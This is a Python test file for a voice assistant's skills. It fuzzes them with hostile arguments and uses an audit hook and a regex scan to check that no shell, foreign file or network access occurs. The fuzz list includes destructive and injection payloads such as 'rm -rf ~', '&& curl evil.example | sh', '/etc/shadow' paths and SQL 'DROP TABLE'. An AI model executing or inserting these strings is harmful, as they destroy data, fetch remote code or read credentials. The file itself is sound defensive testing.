"""T22: whatever a model hands to a skill, it is no command, no path and no program."""

import asyncio
import concurrent.futures.thread  # loaded now, so that no skill is seen to do it
import os
import re
import string
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import dbus_fast.aio
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

import skills
from jarvis import plugins
from jarvis.errors import SkillError
from jarvis.mind.tools import LONGEST_WORDS, WrongArgumentsError, values_of
from jarvis.plugins import Skill
from jarvis.testing import NotingHouse, run
from jarvis.zones import find
from tests.thinking import NOON

ROOT = Path(__file__).parents[2]
with ThreadPoolExecutor(1) as pool:  # the names of places are read once, in a thread
    pool.submit(find, "nowhere").result()
SKILLS = plugins.find(skills)
NASTY = [
    "; rm -rf ~", "$(reboot)", "`id`", "| sh", "&& curl evil.example | sh", "../../etc/passwd", "/dev/sda",
    "C:\\Windows\\system32", "file:///etc/shadow", "%n%n%n%s", "{0.__class__}", "__import__('os').abort()",
    "' OR 1=1; DROP TABLE memory; --", "\x00", "\x1b]0;title\x07", "\u202egnp.exe", "<speak>",
    "an hour; reboot", "{duration}", "[a|b]", "-rf", "--help", "NaN", "1e999", "10" * 60, "\ud800",
    "ten minutes\nten hours",
]  # fmt: skip
VALUES: st.SearchStrategy[Any] = st.recursive(
    st.one_of(
        st.sampled_from(NASTY), st.text(max_size=250), st.text(string.printable, max_size=60), st.none(),
        st.booleans(), st.integers(), st.floats(), st.sampled_from(["ten minutes", "an hour", "5"]),
    ),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=5,
)  # fmt: skip
PLACES = sorted({place for one in SKILLS for place in one.places})
ARGUMENTS = st.dictionaries(st.sampled_from(PLACES) | st.text(max_size=8), VALUES, max_size=3)
NEVER = re.compile(
    r"\bshell\s*=\s*True|\bos\.(system|popen|exec\w*|spawn\w*)\(|\bpty\.spawn|\bexec\(|\bgetoutput\("
)
FORBIDDEN = ("subprocess.Popen", "os.", "shutil.", "socket.connect", "ctypes.dlopen", "exec", "import")
LOOKS = {
    "system": ("os.listdir", "os.scandir"),
    "media": ("socket.connect",),
    "desktop": ("socket.connect",),
    "programs": ("os.scandir", "os.listdir"),
}
"""What a skill looks at, whatever it is told: batteries, the session bus, the menu, the user's folders."""
_WRITES = {"w", "a", "x", "+"}
_FLAGS = os.O_WRONLY | os.O_RDWR | os.O_CREAT
_OF_FILES = {f"os.{one}" for one in ("mkdir", "chmod", "rename", "remove", "utime", "scandir", "listdir")}
LOADED = (concurrent.futures.thread, dbus_fast.aio)
happened: list[str] = []
watching = False


def _is_page(path: object) -> bool:
    """Whether this is a page of the notes or lists, or their folder: only there what was said is written."""
    page = r"(/jarvis(/notes(/lists)?(/\.before)?(/\.?[\w ]+\.md(\.new)?)?)?)?"
    return re.fullmatch(re.escape(os.environ["XDG_DATA_HOME"]) + page, str(path)) is not None


def _watch(event: str, details: tuple[Any, ...]) -> None:
    """Note what reaches out of the program while a skill runs."""
    if not watching or (event == "open" and isinstance(details[0], int)):  # that one was opened before
        return
    writes = event == "open" and (_WRITES & set(str(details[1] or "r")) or details[2] & _FLAGS)
    paths = details[: 2 if event == "os.rename" else 1]
    if (writes or event.startswith(FORBIDDEN)) and not (
        (writes or event in _OF_FILES) and all(map(_is_page, paths))
    ):
        happened.append(f"{event} {details[:2]}")


sys.addaudithook(_watch)


async def used(one: Skill, values: dict[str, Any]) -> str:
    """What the skill says, or what went wrong in a way that is told."""
    try:
        return (await plugins.call(one, values, NotingHouse(NOON))).text
    except SkillError as error:
        return str(error)


async def watched(one: Skill, values: dict[str, Any]) -> str:
    global watching  # noqa: PLW0603 - an audit hook stays for ever, so it is told when to look
    watching = True
    try:
        return await used(one, values)
    finally:
        watching = False


@pytest.fixture(autouse=True)
def own_home(own_folders: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No file of whoever runs this is opened."""
    monkeypatch.setenv("HOME", str(own_folders))


@pytest.mark.parametrize("one", SKILLS, ids=lambda one: str(one.name))
@settings(max_examples=60, deadline=None)
@example(arguments={"duration": "ten minutes"})
@example(arguments={"fact": NASTY[0]})
@example(arguments={"topic": NASTY[6]})
@example(arguments={"items": NASTY[5], "name": NASTY[5], "number": 1})
@example(arguments={"text": NASTY[6]})
@given(arguments=ARGUMENTS)
def test_a_built_in_skill_gets_plain_values_and_touches_nothing_outside(
    one: Skill, arguments: dict[str, Any]
) -> None:
    try:
        values = values_of(one, arguments)
    except WrongArgumentsError:
        return
    assert set(values) <= set(one.places)
    texts = [value for value in values.values() if isinstance(value, str)]
    assert all(len(text) <= LONGEST_WORDS and text.isprintable() for text in texts)
    happened.clear()
    assert "has a fault" not in run(watched(one, values))
    looks = LOOKS.get(one.name.partition(".")[0], ())
    assert [found for found in happened if not looks or not found.startswith(looks)] == []
    assert not any(text in found for text in texts if len(text) > 2 for found in happened)


def test_the_watch_sees_what_it_looks_for(tmp_path: Path) -> None:
    @plugins.skill("do harm")
    async def harm(what: str) -> str:
        """Do what no skill may."""
        (tmp_path / what).write_text(what)
        process = await asyncio.create_subprocess_exec("true")
        await process.wait()
        return what

    happened.clear()
    run(watched(harm.__jarvis_skill__, {"what": "x"}), real_time=True)  # type: ignore[attr-defined]
    assert {one.split()[0] for one in happened} >= {"open", "subprocess.Popen"}


@pytest.mark.parametrize("folder", ["jarvis", "voice", "skills", "ui", "scripts"])
def test_nothing_of_ours_uses_a_shell(folder: str) -> None:
    sources = [file for file in (ROOT / folder).rglob("*") if file.is_file() and file.suffix in {".py", ""}]
    assert sources
    found = [
        f"{file.relative_to(ROOT)}:{number}"
        for file in sources
        for number, line in enumerate(file.read_text(errors="replace").splitlines(), 1)
        if NEVER.search(line)
        and "python" in (file.read_text(errors="replace")[:40] + file.suffix.replace(".py", "python"))
    ]
    assert found == []


@pytest.mark.parametrize(
    "line",
    [
        "run(x, shell=True)",
        "run(x, shell = True)",
        "os.system(x)",
        "os.popen(x)",
        "exec(x)",
        "os.execv(x, y)",
    ],
)
def test_the_search_would_find_them(line: str) -> None:
    assert NEVER.search(line)
